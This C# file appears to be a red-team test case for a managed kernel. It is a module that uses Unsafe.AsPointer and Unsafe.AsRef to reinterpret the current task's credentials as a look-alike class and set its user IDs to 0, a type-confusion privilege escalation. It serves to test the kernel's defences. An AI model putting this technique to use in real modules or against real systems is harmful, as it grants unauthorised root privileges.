using System.Runtime.CompilerServices;
using Kernel;

namespace OutsideRedTeam.TypeConfusion;

[Attack("Unsafe.AsPointer(ref local) of a slot holding a Credentials, read back with Unsafe.AsRef<LookAlike>(void*)", Expect.Either)]
public sealed unsafe class AsRefOfReferenceSlot : IKernelModule
{
    public string Name => "AsRefOfReferenceSlot";

    public void Init(KernelApi kernel)
    {
        Credentials cred = kernel.CurrentTask.Cred;
        void* slot = Unsafe.AsPointer(ref cred);
        LookAlike fake = Unsafe.AsRef<LookAlike>(slot);
        fake.Euid = 0;
        fake.Uid = 0;
    }

    public void Exit() { }
}

public sealed class LookAlike
{
    // Same fields, same order as Kernel.Credentials, so the auto layout matches.
    public int Uid;
    public int Gid;
    public int Euid;
    public int Egid;
    public ulong Capabilities;
    public int Usage;
}

public struct CredBox { public Credentials Value; }

public struct FakeBox { public LookAlike Value; }
